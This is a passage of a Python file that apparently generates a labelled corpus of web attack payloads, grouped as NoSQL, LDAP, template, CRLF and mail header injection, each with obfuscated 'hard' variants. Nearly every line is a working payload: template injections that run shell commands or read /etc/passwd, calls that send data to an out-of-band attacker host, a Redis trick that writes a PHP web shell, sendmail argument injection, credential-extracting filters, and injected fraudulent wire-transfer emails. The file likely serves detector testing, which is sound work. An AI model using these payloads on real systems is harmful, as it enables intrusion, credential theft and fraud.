            [{"$unionWith": {"coll": "users", "pipeline": [{"$project": {"email": 1, "passwordHash": 1}}]}}],
            param="stages",
            path="/api/dashboards/widget",
        )
    )
    L.append(
        A(
            "json",
            {
                "bool": {
                    "filter": {
                        "script": {
                            "script": {
                                "source": "doc['password.keyword'].value.startsWith(params.p)",
                                "params": {"p": "a"},
                            }
                        }
                    }
                }
            },
            param="query",
            extra={"size": 1},
            path="/api/search/_search",
        )
    )
    L.append(A("query", "name:foo OR _exists_:password_hash", param="q", path="/api/search"))
    L.append(
        A(
            "json",
            {"query_string": {"query": "*", "fields": ["password", "api_key"]}},
            param="query",
            path="/api/search/_search",
        )
    )
    L.append(
        A(
            "json",
            {"_id": {"$gt": None}},
            param="selector",
            extra={"fields": ["_id", "password", "roles"], "limit": 500},
            path="/userdb/_find",
        )
    )
    L.append(
        A(
            "json",
            ["_admin"],
            method="PUT",
            path="/_users/org.couchdb.user:%s" % tok(6),
            jraw='{"type":"user","name":"%s","roles":["_admin"],"roles":[],"password":"%s"}' % (tok(6), tok(10)),
        )
    )
    L.append(A("json", "x'); return redis.call('config','get','*') --", param="session_key", path="/api/cache/inspect"))
    L.append(
        A(
            "query",
            "a'}) RETURN u.name AS name UNION MATCH (u:User) RETURN u.password AS name //",
            param="name",
            path="/api/graph/people",
        )
    )
    L.append(
        A(
            "form",
            "x' WITH 1 AS a CALL dbms.components() YIELD versions LOAD CSV FROM 'http://%s/?v='+versions[0] AS l RETURN l//"
            % h(),
            param="label",
            path="/graph/search",
        )
    )
    L.append(
        A(
            "json",
            '{ users(filter: "{\\"password\\": {\\"$regex\\": \\"^a\\"}}") { id email } }',
            param="query",
            path="/graphql",
        )
    )
    L.append(
        A(
            "json",
            {"email": {"$ne": None}},
            path="/graphql",
            jbody={"query": "query Q($w: JSON) { users(where: $w) { email resetToken } }", "variables": {"w": TOKEN}},
        )
    )
    L.append(A("header", '{"owner":{"$ne":null}}', hname="X-Filter", path="/api/documents"))
    L.append(A("cookie", 'j:{"$gt":""}', cname="session_user", path="/api/me"))
    L.append(A("path", "admin' || this.role=='admin", path="/api/users/byname/{P}"))
    L.append(
        A(
            "multipart",
            "passwd[$exists]",
            mp="name",
            kval="true",
            extra_parts=[("username", "admin")],
            path="/api/login",
        )
    )
    L.append(A("xml", "admin' || 'a'=='a", param="username"))
    # ---- hard (20)
    L.append(
        Hd("json", {"$nin": ["x"]}, param="password", jesc="key", extra={"username": "admin"}, path="/api/auth/login")
    )
    L.append(
        Hd(
            "form",
            "pass[$gt]",
            as_key=True,
            kval="",
            enc="full",
            extra_form=[("username", "admin")],
            path="/login",
            fill=False,
        )
    )
    L.append(Hd("query_key", "login[$nin][]", kval="guest", path="/api/users/lookup"))
    L.append(
        Hd(
            "json",
            {"$regex": ".*", "$options": "si"},
            param="resetToken",
            extra={"email": "ceo@acme-corp.com"},
            path="/api/password/reset",
        )
    )
    L.append(Hd("json", {"$where": "\\u0073leep(5000)"}, param="filter", path="/api/reports/run"))
    L.append(
        Hd(
            "json",
            {"$where": "eval(String.fromCharCode(%s))||1" % ",".join(str(ord(c)) for c in "sleep(5000)")},
            param="criteria",
            path="/api/tickets/find",
        )
    )
    L.append(
        Hd("json", {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}, param="filter", path="/api/members/search")
    )
    L.append(
        Hd(
            "json",
            {"$or": [{"isAdmin": True}, {"_id": {"$exists": True}}]},
            param="where",
            deep=12,
            path="/api/objects/query",
        )
    )
    L.append(Hd("query", "a'||sleep(5000)||'", param="q", path="/api/products/search"))
    L.append(
        Hd(
            "json",
            {
                "script": {
                    "script": {"source": "doc['api_key.keyword'].value.charAt(0)==params.c", "params": {"c": "s"}}
                }
            },
            param="query",
            jesc="rand",
            path="/api/search/_search",
        )
    )
    L.append(
        Hd(
            "json",
            {"x": {"terms": {"field": "password.keyword", "size": 1000}}},
            param="aggs",
            extra={"size": 0},
            path="/api/search/_search",
        )
    )
    L.append(
        Hd(
            "json",
            {"$or": [{"type": "user"}, {"password_scheme": {"$regex": ".*"}}]},
            param="selector",
            extra={"fields": ["name", "derived_key", "salt"]},
            path="/_users/_find",
        )
    )
    L.append(Hd("query", "' oR 1=1 WiTh 1 aS a MaTcH (n) ReTuRn n //", param="name", path="/api/graph/people"))
    L.append(
        Hd(
            "form",
            "x' CALL apoc.load.json('http://%s/'+'x') YIELD value RETURN value //" % h(),
            param="label",
            path="/graph/search",
        )
    )
    L.append(
        Hd(
            "json",
            {"resetToken": {"$regex": "^"}},
            path="/graphql",
            jesc="key",
            jbody={"query": "query R($f: JSON) { accounts(filter: $f) { id email } }", "variables": {"f": TOKEN}},
        )
    )
    L.append(Hd("cookie", 'j:{"$regex":"^adm"}', cname="session_user", enc="full", path="/api/me"))
    L.append(Hd("header", '{"$where":"sleep(3000)||true"}', hname="X-Query", path="/api/documents"))
    L.append(
        Hd(
            "multipart",
            '{"$ne":"wrong"}',
            param="password",
            extra_parts=[("email", "admin@acme-corp.com")],
            path="/api/login",
        )
    )
    L.append(Hd("xml", "'; return true; var x='", param="username", xesc="charref"))
    L.append(
        Hd(
            "json",
            "x'); return redis.call(string.char(107,101,121,115),'*') --",
            param="session_key",
            path="/api/cache/inspect",
        )
    )
    return L


# ================================================================ attacks part C
def cat_ldapi():
    L = []
    L.append(A("form", "*", param="username", extra_form=[("password", "*")], path="/ldap/login", fill=False))
    L.append(A("form", "admin)(&)", param="username", extra_form=[("password", "anything")], path="/login"))
    L.append(A("form", "*)(uid=*))(|(uid=*", param="user", extra_form=[("pass", "x")], path="/auth"))
    L.append(A("query", "*)(|(objectClass=*)", param="user", path="/api/directory/lookup"))
    L.append(A("query", "admin*)((|userPassword=*)", param="q", path="/people/search"))
    L.append(A("json", "*)(userPassword=a*", param="username", path="/api/directory/exists"))
    L.append(A("json", "admin)(|(description=*pass*)", param="uid", path="/api/directory/users/find"))
    L.append(A("query", "*)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local", param="name", path="/api/ad/users"))
    L.append(A("form", "*)(|(mail=*@corp.local", param="email", path="/password/forgot"))
    L.append(A("json", "x)(|(cn=*)(telephoneNumber=*)", param="search", path="/api/phonebook"))
    L.append(A("header", "*)(cn=*))(|(cn=*", hname="X-Remote-User", path="/intranet/"))
    L.append(A("cookie", "admin)(!(&(1=0", cname="uid", path="/portal/"))
    L.append(A("path", "*)(objectClass=*", path="/directory/users/{P}"))
    L.append(
        A("multipart", "admin)(|(userPassword=*)", param="username", extra_parts=[("password", "x")], path="/sso/login")
    )
    L.append(A("xml", "*)(uid=*)(|(mail=*", param="uid"))
    L.append(
        A(
            "query",
            "*)(sAMAccountName=*)(userAccountControl:1.2.840.113556.1.4.803:=2",
            param="user",
            path="/api/ad/users",
        )
    )
    L.append(
        A("json", "*)(objectClass=person)(|(homeDirectory=*", param="name", deep=True, path="/api/directory/users/find")
    )
    L.append(A("query", "x*)(|(ou=*", param="dept", path="/people/search"))
    L.append(A("form", "admin)(|(pwdLastSet>=0)", param="login", path="/auth"))
    L.append(A("json_key", "uid=*)(|(userPassword", kval="x", path="/api/directory/query"))
    L.append(A("query", "admin)(objectClass=*))(&(objectClass=void", param="user", path="/api/directory/lookup"))
    L.append(A("cookie", "*)(mail=*", cname="ldap_user", path="/intranet/profile"))
    L.append(A("header", "admin)(|(objectClass=*", hname="X-Forwarded-User", path="/admin/"))
    L.append(A("multipart", "*)(departmentNumber=*", param="department", path="/api/orgchart/export"))
    L.append(A("xml", "admin)(|(memberOf=*)", param="NameID", path="/saml/attributes"))
    L.append(A("json", "*)(|(userPassword=*)(unicodePwd=*)", param="account", path="/api/accounts/check"))
    L.append(A("form", "*)(userPassword=*", param="password", extra_form=[("username", "admin")], path="/login"))
    L.append(A("query", "Smith*)(|(title=*admin*)", param="name", path="/people/search"))
    L.append(A("path", "*)(member=*", path="/api/ldap/groups/{P}"))
    L.append(A("json", "*)(pwdAccountLockedTime=*", param="user", path="/api/directory/exists"))
    # ---- hard (20)
    L.append(Hd("query", "*)(2.5.4.3=*", param="user", path="/api/directory/lookup"))
    L.append(Hd("form", "admin)(uid:dn:=admin", param="username", extra_form=[("password", "x")], path="/login"))
    L.append(Hd("query", "*)(UID=*))(|(UID=*", param="q", path="/people/search"))
    L.append(Hd("query", "admin)(cn=*))\x00", param="user", path="/api/directory/lookup"))
    L.append(Hd("json", "*)(|(objectClass=user)", param="username", jesc="punct", path="/api/directory/exists"))
    L.append(Hd("query", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a", param="user", path="/api/directory/lookup"))
    L.append(
        Hd("form", "x*)(userPassword=*", param="password", enc="full", extra_form=[("username", "jdoe")], path="/auth")
    )
    L.append(Hd("json", "*)(cn~=adm", param="search", path="/api/phonebook"))
    L.append(Hd("header", "*)(&(objectClass=user)(adminCount=1)", hname="X-Remote-User", path="/intranet/"))
    L.append(Hd("cookie", "jdoe)(|(objectClass=*", cname="uid", enc="mixed", path="/portal/"))
    L.append(Hd("path", "*)(sn=*))(|(sn=*", path="/directory/users/{P}", pstyle="full"))
    L.append(Hd("multipart", "*)(uidNumber>=0", param="username", path="/sso/login"))
    L.append(Hd("xml", "*)(|(userPassword=*)", param="uid", xesc="charref"))
    L.append(
        Hd(
            "json",
            "*)(objectCategory=computer)(|(operatingSystem=*Server*",
            param="filter",
            deep=10,
            path="/api/assets/ad",
        )
    )
    L.append(Hd("query", "*)(|(objectClass=*)(!(cn=x)", param="name", path="/api/ad/users"))
    L.append(Hd("query", "*)(&)", param="user", path="/api/directory/lookup"))
    L.append(Hd("json", ")(|(cn=*", param="cn", path="/api/directory/users/find"))
    L.append(Hd("form", "admin)(|(userPassword=\\61*)", param="login", path="/auth"))
    L.append(Hd("query", "*)(msDS-AllowedToDelegateTo=*", param="name", path="/api/ad/computers"))
    L.append(Hd("json_key", "cn=*)(|(description", kval="x", jesc="key", path="/api/directory/query"))
    return L


HBS_RCE = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
    "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)


def cat_ssti():
    h = oob
    L = []
    L.append(
        A(
            "query",
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            param="name",
            path="/hello",
        )
    )
    L.append(
        A(
            "json",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            param="template",
            path="/api/notifications/preview",
        )
    )
    L.append(
        A("form", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}", param="bio", path="/profile/edit")
    )
    L.append(A("query", "{{ config.items() }}", param="q", path="/search"))
    L.append(
        A(
            "path",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            path="/hello/{P}",
        )
    )
    L.append(
        A(
            "json",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}",
            param="body",
            prefix=True,
            path="/api/emails/templates",
        )
    )
    L.append(A("query", "{{['id']|filter('system')}}", param="name", path="/greeting.php"))
    L.append(
        A(
            "form",
            '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
            param="message",
            path="/contact",
        )
    )
    L.append(
        A(
            "json_key",
            "{{ cycler.__init__.__globals__.os.popen('curl http://%s/k').read() }}" % h(),
            kval="Customer",
            path="/api/campaigns/merge-fields",
        )
    )
    L.append(
        A(
            "query",
            '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
            param="title",
            path="/cms/preview",
        )
    )
    L.append(
        A(
            "multipart",
            '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}\n',
            mp="file",
            filename="invoice.ftl",
            fct="text/plain",
            fieldname="template",
            path="/admin/templates/upload",
        )
    )
    L.append(
        A(
            "json",
            '<#assign ob="freemarker.template.utility.ObjectConstructor"?new()>${ob("java.lang.ProcessBuilder",["id"]).start()}',
            param="content",
            path="/api/cms/pages",
        )
    )
    L.append(
        A(
            "form",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
            param="signature",
            path="/settings/email",
        )
    )
    L.append(
        A("query", '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")', param="name", path="/vm/render")
    )
    L.append(
        A("json", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", param="greeting", path="/api/landing/sections")
    )
    L.append(
        A(
            "query",
            '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
            param="section",
            path="/guide",
        )
    )
    L.append(
        A(
            "json",
            "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}",
            param="description",
            path="/api/products/42",
        )
    )
    L.append(
        A(
            "form",
            "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
            param="footer",
            path="/admin/site",
        )
    )
    L.append(A("json", HBS_RCE, param="text", path="/api/render"))
    L.append(
        A(
            "query",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            param="name",
            path="/welcome",
        )
    )
    L.append(A("form", "<%= system('id') %>", param="comment", path="/posts/7/comments"))
    L.append(A("xml", "<%= IO.popen('cat /etc/passwd').readlines() %>", param="subject"))
    L.append(A("header", "<%= File.open('/etc/passwd').read %>", hname="User-Agent", path="/"))
    L.append(A("query", "{system('id')}", param="tpl", path="/index.php"))
    L.append(
        A(
            "form",
            "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
            param="name",
            path="/register.php",
        )
    )
    L.append(
        A(
            "json",
            "<% import os; x=os.popen('id').read() %>${x}",
            param="note",
            prefix=True,
            path="/api/reports/annotate",
        )
    )
    L.append(A("query", '{% import os %}{{ os.popen("id").read() }}', param="msg", path="/render"))
    L.append(
        A(
            "json",
            '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
            param="body",
            path="/api/Templates/Preview",
        )
    )
    L.append(
        A(
            "form",
            "x;process.mainModule.require('child_process').execSync('curl http://%s/e');s" % h(),
            param="settings[view options][outputFunctionName]",
            path="/page",
        )
    )
    L.append(
        A(
            "cookie",
            "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}",
            cname="display_name",
            path="/dashboard",
        )
    )
    # ---- hard (20)
    L.append(
        Hd(
            "query",
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
            param="name",
            path="/hello",
        )
    )
    L.append(
        Hd(
            "query",
            "{{(lipsum|attr(request.args.g)).os.popen(request.args.c).read()}}",
            param="name",
            q=[("g", "__globals__"), ("c", "id")],
            fill=False,
            path="/hello",
        )
    )
    L.append(
        Hd("form", "{%print(cycler.__init__.__globals__.os.popen('id').read())%}", param="bio", path="/profile/edit")
    )
    L.append(
        Hd(
            "json",
            '{{ (lipsum|attr("__glo"~"bals__"))["o"~"s"]|attr("po"~"pen")("id")|attr("read")() }}',
            param="template",
            path="/api/notifications/preview",
        )
    )
    L.append(
        Hd(
            "json",
            "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
            param="subject",
            jesc="punct",
            path="/api/emails/templates",
        )
    )
    L.append(
        Hd(
            "query",
            "{% set a=dict(__glo=1,bals__=2)|join %}{{ (lipsum|attr(a)).os.popen('id').read() }}",
            param="q",
            path="/search",
        )
    )
    L.append(Hd("query", "{{ ['id']|map('sys'~'tem')|join }}", param="name", path="/greeting.php"))
    L.append(
        Hd(
            "form",
            "[#ftl][#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
            param="title",
            path="/cms/preview",
        )
    )
    L.append(
        Hd(
            "json",
            '<#assign c="freemarker.template.utility."+"Exe"+"cute">${c?new()("id")}',
            param="content",
            path="/api/cms/pages",
        )
    )
    L.append(
        Hd(
            "query",
            '#set($s="")#set($c=$s.getClass().forName("java.lang."+"Runtime"))$c.getMethod("exec",$s.getClass()).invoke($c.getMethod("getRuntime").invoke(null),"id")',
            param="name",
            path="/vm/render",
        )
    )
    L.append(
        Hd(
            "multipart",
            "[[${T(java.lang.Runtime).getRuntime().exec('id')}]].png",
            mp="filename",
            fct="image/png",
            fcontent="\x89PNG\r\n\x1a\n",
            fieldname="image",
            path="/api/gallery/upload",
        )
    )
    L.append(
        Hd(
            "json",
            "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
            param="greeting",
            path="/api/landing/sections",
        )
    )
    L.append(
        Hd(
            "json",
            '{{ range["constructor"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id") }}',
            param="text",
            path="/api/render",
        )
    )
    L.append(Hd("header", "{if system('id')}{/if}", hname="User-Agent", path="/index.php"))
    L.append(Hd("cookie", '{{__import__("os").system("id")}}', cname="display_name", enc="mixed", path="/dashboard"))
    L.append(
        Hd(
            "query_key",
            "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
            kval="1",
            path="/api/debug",
        )
    )
    L.append(Hd("xml", '${self.module.cache.util.os.system("id")}', param="subject", xesc="charref"))
    L.append(
        Hd("path", "{{ namespace.__init__.__globals__.os.popen('whoami').read() }}", path="/hello/{P}", pstyle="full")
    )
    L.append(
        Hd(
            "form",
            "1;return global.process.mainModule.constructor._load('child_process').execSync('id');",
            param="settings[view options][escapeFunction]",
            extra_form=[("settings[view options][client]", "1")],
            path="/page",
            fill=False,
        )
    )
    L.append(
        Hd(
            "json",
            '@{ var t = System.Type.GetType("System.Diagnostics.Pro"+"cess"); t.GetMethod("Start", new[]{typeof(string), typeof(string)}).Invoke(null, new object[]{"cmd.exe","/c whoami"}); }',
            param="body",
            path="/api/Templates/Preview",
        )
    )
    return L


def cat_crlf():
    h = oob
    L = []
    L.append(A("query", "/home\r\nSet-Cookie: session=attacker; Path=/", param="redirect", path="/login"))
    L.append(
        A(
            "query",
            "en\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(document.domain)</script>",
            param="lang",
            path="/set-language",
        )
    )
    L.append(A("path", "\r\nSet-Cookie:crlf=injection", path="/{P}"))
    L.append(A("path", "\r\nLocation: https://%s/" % adom(), path="/static/{P}"))
    L.append(
        A(
            "query",
            "https://www.northwind-shop.com/\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 19\r\n\r\n<html>Pwned</html>",
            param="next",
            path="/auth/continue",
        )
    )
    L.append(
        A(
            "json",
            "bob\n2026-12-07 10:14:22 INFO [auth] Login succeeded for user=admin from 10.0.0.5",
            param="username",
            extra={"password": "hunter2"},
            path="/api/auth/login",
        )
    )
    L.append(
        A(
            "form",
            "ok\r\n[2026-12-07T10:00:00Z] WARN payment approved id=99812 amount=0.01",
            param="comment",
            path="/orders/99812/notes",
        )
    )
    L.append(A("cookie", "en\r\nSet-Cookie: admin=true", cname="lang", path="/"))
    L.append(
        A(
            "multipart",
            "Quarterly numbers\r\n2026-12-07 09:00:01 INFO user=root action=disable_audit result=ok",
            param="description",
            path="/api/files",
        )
    )
    L.append(A("xml", "ok\nERROR db connection lost; failing over to %s" % aip(), param="status"))
    L.append(A("query", "foo\r\nset injected 0 3600 4\r\npwnd", param="key", path="/api/cache/get"))
    L.append(
        A(
            "json",
            'cart:1\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename s.php\r\nSET x "<?php system($_GET[0]);?>"\r\nSAVE\r\n',
            param="cart_id",
            path="/api/cart/load",
        )
    )
    L.append(A("form", "INBOX\r\nA002 DELETE INBOX", param="mailbox", path="/webmail/folder"))
    L.append(
        A(
            "json",
            "mail.northwind-shop.com\r\nMAIL FROM:<ceo@acme-corp.com>\r\nRCPT TO:<ap@acme-corp.com>\r\nDATA\r\nSubject: Wire transfer\r\n\r\nPlease process today.\r\n.\r\n",
            param="helo_name",
            path="/api/admin/smtp-settings",
        )
    )
    L.append(A("query_key", "x\r\nSet-Cookie: k=v", kval="1", path="/api/items"))
    L.append(A("json_key", "amount\nINFO refund processed for order 5512 by admin", kval=10, path="/api/payments/log"))
    L.append(
        A(
            "query",
            "report.pdf\r\nContent-Disposition: attachment; filename=invoice.exe",
            param="file",
            path="/download",
        )
    )
    L.append(A("query", "https://example.org/\r\nRefresh: 0; url=https://%s/" % adom(), param="url", path="/out"))
    L.append(A("form", "abc\r\ndelete session:admin\r\n", param="session_id", path="/session/resume"))
    L.append(
        A("json", "x\r\n*3\r\n$3\r\nSET\r\n$5\r\nadmin\r\n$4\r\ntrue\r\n", param="token", path="/api/session/check")
    )
    L.append(A("cookie", "abc\r\nX-Injected: 1", cname="tracking", path="/landing"))
    L.append(
        A(
            "multipart",
            "application/json\r\nX-Admin: true",
            param="header_value",
            extra_parts=[("header_name", "Content-Type"), ("url", "https://hooks.example.org/x")],
            path="/api/webhooks",
        )
    )
    L.append(A("xml", "user\nINFO: role changed to admin by system", param="displayName"))
    L.append(A("path", "x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /admin", path="/proxy/{P}"))
    L.append(A("query", "/\r\n\r\n<svg onload=alert(1)>", param="returnTo", path="/logout"))
    L.append(
        A(
            "form",
            'guest\r\n127.0.0.1 - admin [07/Dec/2026:10:00:00 +0000] "GET /admin/export HTTP/1.1" 200 512',
            param="username",
            extra_form=[("password", "x")],
            path="/login",
        )
    )
    L.append(A("query", "a.pdf\r\nX-Accel-Redirect: /internal/secrets/db.env", param="download", path="/files/get"))
    L.append(A("json", "Hi\r\nBcc: all@acme-corp.com", param="subject", path="/api/support/ticket"))
    L.append(A("header", "https://shop.example%0d%0aSet-Cookie:%20sess=attacker", hname="X-Forwarded-Host", path="/"))
    L.append(A("query", 'INBOX"\r\nA3 LIST "" "*"', param="folder", path="/webmail/list"))
    # ---- hard (20)
    L.append(Hd("query", "\u560a\u560dSet-Cookie:crlf=1", param="lang", path="/set-language"))
    L.append(Hd("path", "\u560a\u560dLocation:https://%s/" % adom(), path="/static/{P}"))
    L.append(Hd("query", "/home%0d%0aSet-Cookie:x=y", param="redirect", path="/login"))
    L.append(Hd("query", "/home\r\nSet-Cookie: sid=fixed123", param="redirect", enc="full", path="/login"))
    L.append(Hd("json", "x\r\nSet-Cookie: a=1", param="return_url", jesc="punct", path="/api/auth/logout"))
    L.append(
        Hd(
            "header",
            "https://shop.example/%%0D%%0ALocation:%%20https://%s/" % adom(),
            hname="Referer",
            path="/cart/back",
        )
    )
    L.append(Hd("cookie", "en\nSet-Cookie: admin=1", cname="lang", path="/"))
    L.append(Hd("query", "/home\rSet-Cookie: a=b", param="redirect", path="/login"))
    L.append(Hd("xml", "ok\r\nSet-Cookie: x=1", param="status", xesc="charref"))
    L.append(Hd("query", "x\u0085INFO admin login ok from 10.0.0.1", param="user", path="/api/audit/ping"))
    L.append(Hd("query", "foo\nflush_all", param="key", path="/api/cache/get"))
    L.append(
        Hd(
            "json",
            "http://127.0.0.1:6379/?q=HTTP/1.1\r\nSET x y\r\nfoo: ",
            param="webhook_url",
            path="/api/integrations/webhooks",
        )
    )
    L.append(Hd("form", 'INBOX\r\nA2 CREATE "pwned"', param="mailbox", enc="full", path="/webmail/folder"))
    L.append(
        Hd(
            "multipart",
            "application/json%0d%0aX-Admin:%20true",
            param="header_value",
            extra_parts=[("header_name", "Accept")],
            path="/api/webhooks",
        )
    )
    L.append(Hd("query_key", "x\r\nLocation: https://%s/" % adom(), kval="1", enc="full", path="/api/items"))
    L.append(Hd("path", "\r\nSet-Cookie: a=b", path="/api/redirect/{P}", pstyle="mixed"))
    L.append(Hd("cookie", "x%0d%0aSet-Cookie:y=z", cname="lang", path="/"))
    L.append(
        Hd(
            "json",
            "done\r\n2026-12-07 10:22:01 INFO approval granted to user=attacker",
            param="message",
            deep=11,
            path="/api/jobs/report",
        )
    )
    L.append(Hd("header", "abc%0d%0aX-Admin:%20true", hname="X-Request-Id", path="/api/orders"))
    L.append(
        Hd(
            "form",
            "en\r\n\r\n<html><body>Session expired, <a href=https://%s/>log in</a></body></html>" % adom(),
            param="lang",
            enc="mixed",
            path="/set-language",
        )
    )
    return L


def cat_mail_injection():
    L = []
    ad = adom
    L.append(
        A(
            "form",
            "victim@example.com\nCc: list1@%s, list2@%s" % (ad(), ad()),
            param="email",
            extra_form=[("name", "Sam"), ("message", "Hello")],
            path="/contact",
        )
    )
    L.append(
        A(
            "form",
            "Bob\r\nBcc: spam-target@%s" % ad(),
            param="name",
            extra_form=[("email", "bob@example.com")],
            path="/contact",
        )
    )
    L.append(
        A(
            "form",
            'Hello\r\nBcc: a@%s,b@%s\r\nContent-Type: text/html\r\n\r\n<a href="https://%s/">Claim prize</a>'
            % (ad(), ad(), ad()),
            param="subject",
            path="/contact.php",
        )
    )
    L.append(A("json", "attacker@%s\r\nReply-To: attacker@%s" % (ad(), ad()), param="from", path="/api/share/email"))
    L.append(A("query", "you@example.org\nBcc: harvest@%s" % ad(), param="email", path="/newsletter/subscribe"))
    L.append(
        A(
            "form",
            '"attacker\\" -oQ/tmp/ -X/var/www/cache/phpcode.php some"@email.com',
            param="email",
            path="/contact.php",
        )
    )
    L.append(
        A(
            "form",
            "attacker@%s -OQueueDirectory=/tmp -X/var/www/html/rce.php" % ad(),
            param="from",
            path="/feedback.php",
        )
    )
    L.append(A("json", "victim@example.com,spam1@%s,spam2@%s" % (ad(), ad()), param="to", path="/api/invite"))
    L.append(A("form", "victim@example.com>\r\nRCPT TO:<extra@%s" % ad(), param="recipient", path="/send"))
    L.append(
        A(
            "json",
            "Thanks!\n.\r\nMAIL FROM:<ceo@acme-corp.com>\r\nRCPT TO:<finance@acme-corp.com>\r\nDATA\r\nFrom: CEO <ceo@acme-corp.com>\r\nSubject: Urgent wire\r\n\r\nPlease wire 48,000 EUR today.\r\n.\r\n",
            param="message",
            extra={"to": "support@acme-corp.com"},
            prefix=True,
            path="/api/support/contact",
        )
    )
    L.append(
        A(
            "multipart",
            "Alice\nBcc: bulk@%s" % ad(),
            param="name",
            extra_parts=[("email", "alice@example.com")],
            path="/careers/apply",
        )
    )
    L.append(A("xml", "noreply@acme-corp.com\r\nBcc: leak@%s" % ad(), param="from", path="/services/MailService"))
    L.append(A("cookie", "user@example.com\r\nBcc: x@%s" % ad(), cname="remember_email", path="/cart/email-me"))
    L.append(A("path", "victim@example.com\nBcc: x@%s" % ad(), path="/unsubscribe/{P}"))
    L.append(
        A(
            "form",
            "x\r\nContent-Type: multipart/mixed; boundary=ZZ\r\n\r\n--ZZ\r\nContent-Type: text/html\r\n\r\n<a href=https://%s/login>Verify account</a>\r\n--ZZ--"
            % ad(),
            param="name",
            path="/contact",
        )
    )
    L.append(A("form", "support@acme-corp.com\nTo: victims@%s" % ad(), param="reply_to", path="/tickets/new"))
    L.append(A("json", "finance@acme-corp.com\r\nBcc: all-staff@acme-corp.com", param="cc", path="/api/invoices/send"))
    L.append(A("query", "x@x.com\r\nSubject: Re: invoice", param="email", path="/api/notify"))
    L.append(
        A(
            "json",
            "Support Team <support@acme-corp.com>\r\nSender: security@acme-corp.com",
            param="display_name",
            path="/api/mail/profile",
        )
    )
    L.append(A("multipart", "a@b.co\r\nBcc: c@%s" % ad(), param="recipient", path="/api/share"))
    L.append(
        A(
            "form",
            'INBOX"\r\nZ900 CAPABILITY\r\nZ901 SELECT "INBOX',
            param="mailbox",
            extra_form=[("passed_id", "46106"), ("startMessage", "1")],
            path="/src/read_body.php",
        )
    )
    L.append(
        A(
            "query",
            'INBOX"\r\nZ902 LIST "" "*"\r\nZ903 SELECT "INBOX',
            param="mailbox",
            q=[("passed_id", "46106")],
            path="/src/read_body.php",
        )
    )
    L.append(
        A(
            "form",
            "Hi\r\n.\r\nMAIL FROM: external@%s\r\nRCPT TO: external@%s\r\nDATA\r\nSpam message\r\n.\r\n" % (ad(), ad()),
            param="subject",
            path="/compose.php",
        )
    )
    L.append(A("form", "a@b.c -C/etc/passwd -X/tmp/out.log", param="email", path="/feedback.php"))
    L.append(A("json", "Team: a@%s, b@%s, c@%s;" % (ad(), ad(), ad()), param="to", path="/api/invite"))
    L.append(
        A("form", "a@%s\nTo: b@%s\nTo: c@%s" % (ad(), ad(), ad()), param="friend_email", path="/share-with-friend")
    )
    L.append(A("xml", "customer@example.com\nCc: copy@%s" % ad(), param="to", path="/services/MailService"))
    L.append(
        A("json", "Order question\nX-Priority: 1\nBcc: list@%s" % ad(), param="subject", path="/api/support/contact")
    )
    L.append(A("query", "Jane\r\nTo: everyone@acme-corp.com", param="name", path="/newsletter/subscribe"))
    L.append(
        A("form", "ana@example.com\r\nBcc: x1@%s\r\nBcc: x2@%s" % (ad(), ad()), param="email", path="/quote-request")
    )
    # ---- hard (20)
    L.append(Hd("form", "=?iso-8859-1?q?attacker=40%s=3e=00?=@acme-corp.com" % ad(), param="email", path="/register"))
    L.append(
        Hd("json", "=?utf-7?q?attacker&AEA-%s&AD4-&ACA-?=@acme-corp.com" % ad(), param="email", path="/api/signup")
    )
